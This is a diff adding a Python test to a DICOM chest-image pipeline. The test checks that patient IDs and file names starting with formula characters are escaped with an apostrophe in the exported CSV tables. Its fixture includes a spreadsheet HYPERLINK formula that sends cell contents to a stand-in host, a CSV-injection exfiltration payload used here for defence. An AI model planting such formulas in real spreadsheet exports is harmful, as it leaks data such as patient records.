@@ -128,6 +128,35 @@ def test_a_file_beyond_the_limit_of_pixels_is_rejected(data):
     assert rejected.values.tolist() == [["001.dcm", reason]]
 
 
+def test_no_name_or_id_is_a_formula_to_a_spreadsheet(data):
+    """An apostrophe before it, the same in all tables; numbers and all other names stay."""
+    link = '=HYPERLINK("http://a.b?c="&A1,"click")'
+    rows = ["file,patient,pneumothorax"]
+    for number, (name, patient) in enumerate(
+        [("a", link), ("=b", "+1"), ("'=b", "-2.5"), ("-c", "@d"), ("+d", "'quoted'")]
+    ):
+        write_dicom(data / f"{name}.dcm", chest(number))
+        quoted = patient.replace('"', '""')
+        rows.append(f'{name}.dcm,"{quoted}",{number % 2}')
+    (data / "=e.dcm").write_text("no image")
+    (data / "labels.csv").write_text("\n".join([*rows, "=e.dcm,-x,0"]) + "\n")
+    _, samples, _, rejected = run(data)
+    found = dict(zip(samples["image"], samples["patient"], strict=True))
+    assert found == {
+        "a": f"'{link}",
+        "'=b": "+1",
+        "''=b": "-2.5",
+        "'-c": "'@d",
+        "'+d": "'quoted'",
+    }
+    assert rejected["file"].tolist() == ["'=e.dcm"]
+    for name in NAMES[1:]:
+        table = pd.read_csv(data.parent / "out" / name, dtype=str, keep_default_na=False)
+        for text in [*table.columns, *table.to_numpy().ravel()]:
+            assert text[:1] not in "=@\t\r" or not text, (name, text)
+            assert text[:1] not in "+-" or not text or float(text), (name, text)
+
+
 def test_rows_describe_their_images(data):
     hospital(data, 6, broken=(1,))
     write_dicom(data / "005.dcm", chest(5, (64, 48)), PixelSpacing=["0.2", "0.2"], PatientSex="F")
